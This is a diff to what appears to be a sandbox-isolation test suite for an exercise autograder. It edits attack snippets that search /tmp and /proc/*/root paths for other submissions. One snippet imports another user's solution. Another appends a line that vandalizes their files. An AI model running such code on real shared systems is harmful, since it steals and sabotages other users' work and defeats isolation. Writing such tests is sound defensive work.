@@ -166,8 +166,8 @@ ATTACKS = {
         import glob, importlib.util, itertools
 
         def deltas(Theta, x, y):
-            for path in itertools.chain(["OTHER_DIR/ex05_deltas.py"], glob.iglob("/tmp/*/*/submission/ex05_deltas.py"),
-                                        glob.iglob("/proc/*/root/tmp/*/*/submission/ex05_deltas.py")):
+            for path in itertools.chain(["OTHER_DIR/ex05_deltas.py"], glob.iglob("/tmp/*/submission/ex05_deltas.py"),
+                                        glob.iglob("/proc/*/root/tmp/*/submission/ex05_deltas.py")):
                 try:
                     spec = importlib.util.spec_from_file_location("theirs", path)
                     theirs = importlib.util.module_from_spec(spec)
@@ -182,7 +182,7 @@ ATTACKS = {
 
         def strike():
             for path in ["OTHER_DIR/ex05_deltas.py", "OTHER_DIR/ex02_forward.py", "DROP_DIR/vandal.txt",
-                         *glob.glob("/tmp/*/*/submission/ex*_*.py")]:
+                         *glob.glob("/tmp/*/submission/ex*_*.py")]:
                 try:
                     with open(path, "a") as f:
                         f.write("\\nraise SystemExit('vandalized')\\n")
